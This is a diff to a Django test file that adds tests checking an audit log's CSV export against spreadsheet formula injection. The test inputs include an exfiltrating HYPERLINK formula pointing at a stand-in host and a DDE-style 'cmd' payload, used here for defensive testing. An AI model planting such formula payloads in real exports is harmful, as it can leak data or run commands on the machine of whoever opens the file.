@@ -15,7 +15,7 @@ from django.db import transaction
 from django.http import StreamingHttpResponse
 from django.urls import reverse
 
-from audit import checkpoints, log, signing, verifier, vocabulary
+from audit import checkpoints, log, signing, trail, verifier, vocabulary
 from audit.models import AuditEvent
 from tests.factories import SYSTEM, World
 from tests.unit.conftest import client_for
@@ -269,3 +269,28 @@ def test_the_json_lines_export_ends_with_the_checkpoint_that_covers_it(auditor, 
     # Each exported event still hashes to what the log holds.
     stored = {e.seq: e.hash for e in AuditEvent.objects.all()}
     assert all(stored[e["seq"]] == e["hash"] for e in events)
+
+
+def test_a_typed_reason_that_looks_like_a_formula_is_exported_as_text(auditor, db):
+    _events(1, reason='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    rows = list(csv.DictReader(io.StringIO(_body(client_for(auditor).get("/audit/export.csv?action=test.trail")))))
+    assert [row["reason"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")']
+    # What the hash covers is the reason as recorded, shown unchanged on the event's own page.
+    assert AuditEvent.objects.get(action="test.trail").reason.startswith("=HYPERLINK(")
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd\\|' /C calc'!A0"),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("%0A", "'%0A"),
+        ("rolled back: = drift", "rolled back: = drift"),
+        (-1, "-1"),
+        ("-1.5", "-1.5"),
+    ],
+)
+def test_every_csv_export_neutralises_formula_cells_and_keeps_numbers(cell, written):
+    lines = list(trail.csv_lines(["value"], [[cell]]))
+    assert next(csv.reader(io.StringIO(lines[1]))) == [written]
